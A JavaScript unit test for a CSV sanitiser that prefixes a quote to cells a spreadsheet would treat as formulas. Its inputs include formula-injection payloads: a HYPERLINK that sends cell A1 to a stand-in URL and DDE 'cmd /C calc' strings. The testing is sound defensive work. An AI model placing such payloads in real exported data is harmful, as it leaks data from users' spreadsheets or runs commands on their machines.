import { inertText } from './spreadsheet-cells.js';

describe('CSV cells a spreadsheet may open (docs/security.md, "Numbers, formulas and names")', () => {
  it.each([
    '=HYPERLINK("http://x?"&A1)',
    '@SUM(A1:A9)',
    '+cmd|\' /C calc\'!A0',
    '-2+3+cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    '-1.29 36.82 =HYPERLINK("x")',
    '- 1',
  ])('%j gets a quote in front', (text) => {
    expect(inertText(text)).toBe(`'${text}`);
  });

  it.each([
    '-5',
    '+3',
    '-1.5e3',
    '-1.2921 36.8219 1700 5',
    '-1.29 36.82 0 0;-1.30 36.83 0 0;',
    '-33.9 18.4 12.5 4.2;-33.8 18.5 12.5 4.2',
    'plain text',
    '12 apples',
  ])('%j stays as stored (numbers only, or no formula start)', (text) => {
    expect(inertText(text)).toBe(text);
  });

  it('is linear on a long run of numbers that fails at its end', () => {
    const long = `-${'1 '.repeat(50_000)}x`;
    expect(inertText(long)).toBe(`'${long}`);
  });
});
